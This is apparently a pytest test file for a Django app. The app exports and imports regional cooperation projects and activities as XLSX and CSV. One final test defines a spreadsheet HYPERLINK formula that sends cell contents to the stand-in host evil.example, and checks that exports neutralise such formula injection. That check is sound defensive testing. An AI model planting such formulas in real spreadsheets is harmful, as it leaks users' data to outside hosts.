import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from duikou import testing
from duikou.core.models import Job
from duikou.projects import tables
from duikou.projects import testing as pt
from duikou.projects.models import Activity, Project

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    xinyang = testing.pairing("信阳市", "苏州市")
    yanan = testing.pairing("延安市", "无锡市")
    pt.project(xinyang, "苏信电子信息产业园", park="豫东南高新区", investment_planned=Decimal("1200.50"))
    pt.project(
        xinyang,
        "茶叶精深加工",
        industry="agro_processing",
        key_task=pt.task("KT2"),
        location=pt.county("411502"),
        funding_sources=["central_budget", "eastern_fiscal"],
        land_quota_guarantee=True,
        status="signed",
        note="第二行\n备注",
    )
    pt.project(yanan, "延安项目")
    pt.activity(xinyang, "苏州代表团来访")
    pt.activity(
        xinyang,
        "信阳毛尖进苏州",
        kind="consumption",
        date=datetime.date(2024, 6, 18),
        delegation_size=None,
        delegation_level=None,
        sales_amount=Decimal("120.50"),
        product_category="茶叶",
        sales_channel="电商平台",
    )
    pt.activity(yanan, "延安活动")
    return {"editor": testing.user("xy", "信阳市人民政府", "editor"), "xinyang": xinyang}


def expected_project_rows(user) -> list[list]:
    """What the export must hold, built from the stored rows (not from the exporter's own code)."""
    rows = []
    for p in Project.objects.filter(pairing__old_region__name="信阳市").order_by("pairing__code", "name"):
        rows.append(
            [
                f"{p.pairing.code} 信阳市—苏州市",
                p.name,
                p.get_industry_display(),
                f"{p.key_task.code} {p.key_task.name}",
                f"{p.location.code} {p.location.name}",
                p.park or None,
                p.investment_planned,
                p.investment_signed,
                p.investment_in_place,
                "、".join(p.funding_source_labels) or None,
                "是" if p.land_quota_guarantee else "否",
                p.get_status_display(),
                p.note or None,
                p.start_date,
                p.end_date,
            ]
        )
    return rows


def read_xlsx(content: bytes) -> tuple[list, list[list]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def as_decimal(rows, columns):
    for row in rows:
        for i in columns:
            row[i] = Decimal(str(row[i])).quantize(Decimal("0.01"))
    return rows


def test_exported_xlsx_reads_back_to_the_same_rows(world):
    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
    header, rows = read_xlsx(content)
    assert header == [c.header for c in tables.PROJECT_COLUMNS]
    assert as_decimal(rows, [6, 7, 8]) == expected_project_rows(world["editor"])
    assert not any("延安" in str(cell) for row in rows for cell in row)  # out of scope, not exported


def test_exported_csv_reads_back_to_the_same_rows(world):
    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
    assert content.startswith("\ufeff".encode())  # Excel opens UTF-8 CSV with a BOM correctly
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    expected = [["" if v is None else str(v) for v in row] for row in expected_project_rows(world["editor"])]
    assert rows[1:] == expected


def test_export_reimports_without_change(world):
    for fmt in ("xlsx", "csv"):
        _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt=fmt)
        result = tables.import_projects(user=world["editor"], data=content, filename=f"p.{fmt}")
        assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 2), fmt
        _name, content = tables.export_file(kind="activities", user=world["editor"], filters={}, fmt=fmt)
        result = tables.import_activities(user=world["editor"], data=content, filename=f"a.{fmt}")
        assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 2), fmt


def test_activities_export_reads_back(world):
    _name, content = tables.export_file(kind="activities", user=world["editor"], filters={}, fmt="xlsx")
    header, rows = read_xlsx(content)
    assert header[:5] == ["结对编号", "类型", "重点任务", "日期", "标题"]
    by_title = {row[4]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_title) == {"苏州代表团来访", "信阳毛尖进苏州"}
    sale = by_title["信阳毛尖进苏州"]
    assert sale["日期"] == datetime.datetime(2024, 6, 18) and sale["类型"] == "消费帮扶"  # noqa: DTZ001 (Excel cells are naive)
    assert Decimal(str(sale["消费帮扶金额（万元）"])) == Decimal("120.5") and sale["代表团人数"] is None
    visit = by_title["苏州代表团来访"]
    assert (visit["代表团人数"], visit["代表团级别"]) == (12, "市级")


def test_filtered_export_holds_only_the_filtered_rows(world):
    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={"status": "signed"}, fmt="xlsx")
    _header, rows = read_xlsx(content)
    assert [r[1] for r in rows] == ["茶叶精深加工"]
    _name, content = tables.export_file(kind="activities", user=world["editor"], filters={"kind": "visit"}, fmt="csv")
    assert "苏州代表团来访" in content.decode("utf-8-sig") and "信阳毛尖" not in content.decode("utf-8-sig")


def test_export_job_from_the_page_holds_only_rows_in_scope(client, world):
    client.force_login(world["editor"])
    response = client.post("/projects/export/?status=", {"format": "xlsx"})
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/jobs/{job.pk}/"
    assert job.status == "done" and job.result["filename"].endswith(".xlsx")
    _header, rows = read_xlsx(client.get(f"/jobs/{job.pk}/download").getvalue())
    assert sorted(r[1] for r in rows) == ["苏信电子信息产业园", "茶叶精深加工"]
    page = client.get(f"/jobs/{job.pk}/").content.decode()
    assert "已导出重大项目，共 2 条" in page


def test_cli_export_and_import_with_progress(world, tmp_path, capsys):
    out = tmp_path / "projects.xlsx"
    call_command("export-projects", str(out), "--user", "xy")
    _header, rows = read_xlsx(out.read_bytes())
    assert len(rows) == 2
    call_command("import-projects", str(out), "--dry-run")
    captured = capsys.readouterr()
    assert "试导入通过：共 2 行" in captured.out and "100%" in captured.err  # the tqdm bar
    call_command("export-activities", str(tmp_path / "a.csv"), "--pairing", "N09")
    assert "苏州代表团来访" in (tmp_path / "a.csv").read_text(encoding="utf-8-sig")


def test_cli_import_reports_every_error_and_fails(world, tmp_path, capsys):
    from django.core.management.base import CommandError

    path = tmp_path / "bad.xlsx"
    path.write_bytes(pt.workbook([pt.project_row(所在县区代码="419999"), pt.project_row(**{"计划投资（万元）": -1})]))
    with pytest.raises(CommandError, match="导入未通过：发现 3 处错误"):
        call_command("import-projects", str(path))
    err = capsys.readouterr().err
    assert "第 2 行「E 所在县区代码」列（值：419999）：区划代码「419999」不存在" in err
    assert "第 3 行「G 计划投资（万元）」列（值：-1）：不能为负数" in err
    assert "第 3 行「B 项目名称」列" in err  # the duplicate of row 2
    with pytest.raises(CommandError, match="不存在"):
        call_command("import-projects", str(tmp_path / "missing.xlsx"))


def test_demo_data_is_marked_and_loads_once():
    call_command("demo-projects")
    projects, activities = Project.objects.count(), Activity.objects.count()
    assert projects == 2 and activities == 7
    call_command("demo-projects")
    assert (Project.objects.count(), Activity.objects.count()) == (projects, activities)
    park = Project.objects.get(park="豫东南高新区")
    assert park.name.endswith("（演示数据）") and park.note.startswith("演示数据")
    assert park.pairing.code == "N09" and park.updates.get(date=datetime.date(2022, 6, 11)).evidence.count() == 1
    meeting = Activity.objects.get(date=datetime.date(2022, 6, 11))
    assert meeting.pairing.code == "N09" and "演示数据" in meeting.note
    assert set(Activity.objects.values_list("pairing__code", flat=True)) == {"N09", "N04", "N08"}


LINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'


def test_formula_text_is_never_a_live_formula_in_either_export_and_reimports_unchanged(world):
    pt.project(world["xinyang"], LINK, note="-1+2")
    _name, content = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value != "苏信电子信息产业园" and "茶叶" not in r[1].value)
    assert (row[1].value, row[1].data_type) == ("'" + LINK, "s")
    assert (row[12].value, row[12].data_type) == ("'-1+2", "s")
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert isinstance(row[6].value, int | float)  # an investment stays a number
    _name, text = tables.export_file(kind="projects", user=world["editor"], filters={}, fmt="csv")
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert ["'" + LINK, "'-1+2"] in [[r[1], r[12]] for r in rows]
    for data, fmt in ((content, "xlsx"), (text, "csv")):
        result = tables.import_projects(user=world["editor"], data=data, filename=f"p.{fmt}")
        assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 3), fmt
    assert Project.objects.filter(name=LINK, note="-1+2").count() == 1
